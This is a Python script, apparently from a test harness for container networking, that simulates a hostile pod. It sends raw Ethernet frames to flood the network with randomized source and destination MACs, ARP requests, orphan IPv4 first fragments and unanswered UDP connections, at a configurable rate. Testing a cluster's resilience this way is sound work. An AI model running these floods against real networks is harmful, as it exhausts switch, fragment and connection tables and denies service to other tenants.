"""What an attacker's pod puts on its wire: `frames.py KIND SECONDS SOURCE TARGET [RATE]`.

A script for a pod's namespace: the standard library alone. SOURCE and TARGET are IPv4 addresses; it
prints `ready` and then sends, at most RATE frames a second, for so many seconds.
"""

import random
import socket
import struct
import sys
import time
from collections.abc import Callable

ROUTER = bytes.fromhex("0a58a9fe0101")
IPV4, ARP = b"\x08\x00", b"\x08\x06"
UDP = 17
BATCH = 50
"""Frames between two looks at the clock."""
Random = random.Random


def checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def packet(
    source: bytes, target: bytes, payload: bytes, *, number: int = 1, fragment: int = 0
) -> bytes:
    """An IPv4 packet that holds UDP; `fragment` is the word of flags and offset."""
    head = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), number, fragment, 64, UDP, 0, source, target
    )
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def datagram(source_port: int, port: int, size: int = 4) -> bytes:
    """UDP without a checksum."""
    return struct.pack("!HHHH", source_port, port, 8 + size, 0) + bytes(size)


def source_macs(mac: bytes, source: bytes, target: bytes, made: Random) -> bytes:
    """Each from another source MAC, most of which begin as the node's do."""
    invented = b"\x02" + made.randbytes(5)
    del mac
    return ROUTER + invented + IPV4 + packet(source, target, datagram(5000, 9))


def destination_macs(mac: bytes, source: bytes, target: bytes, made: Random) -> bytes:
    """Each to another destination MAC."""
    invented = b"\x02" + made.randbytes(5)
    return invented + mac + IPV4 + packet(source, target, datagram(5000, 9))


def arp_macs(mac: bytes, source: bytes, target: bytes, made: Random) -> bytes:
    """ARP requests, each to another destination MAC: the answers cannot be told by a bit."""
    del target
    request = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 1) + mac + source + bytes(6)
    return b"\x02" + made.randbytes(5) + mac + ARP + request + bytes([169, 254, 1, 1])


def first_fragments(mac: bytes, source: bytes, target: bytes, made: Random) -> bytes:
    """First fragments, of which no second one follows."""
    more = 0x2000
    fragment = packet(
        source, target, datagram(5000, 9, 1392), number=made.randrange(65536), fragment=more
    )
    return ROUTER + mac + IPV4 + fragment


def connections(mac: bytes, source: bytes, target: bytes, made: Random) -> bytes:
    """UDP, each datagram a new connection that nobody answers."""
    ports = made.randrange(1024, 65536), made.randrange(10_000, 65536)
    return ROUTER + mac + IPV4 + packet(source, target, datagram(*ports))


KINDS: dict[str, Callable[[bytes, bytes, bytes, Random], bytes]] = {
    "source-macs": source_macs,
    "destination-macs": destination_macs,
    "arp-macs": arp_macs,
    "first-fragments": first_fragments,
    "connections": connections,
}


def send(kind: str, seconds: float, source: str, target: str, rate: float) -> None:
    made = Random(1)
    make = KINDS[kind]
    ends = socket.inet_aton(source), socket.inet_aton(target)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
        raw.bind(("eth0", 0))
        mac = raw.getsockname()[4]
        frames = [make(mac, *ends, made) for _ in range(20_000)]
        print("ready", flush=True)
        began, sent = time.monotonic(), 0
        while (passed := time.monotonic() - began) < seconds:
            if sent > passed * rate:
                time.sleep(0.001)
                continue
            for _ in range(BATCH):
                raw.send(frames[sent % len(frames)])
                sent += 1
    print(sent, flush=True)


if __name__ == "__main__":
    kind, seconds, source, target, *rest = sys.argv[1:]
    send(kind, float(seconds), source, target, float(rest[0]) if rest else 10_000)
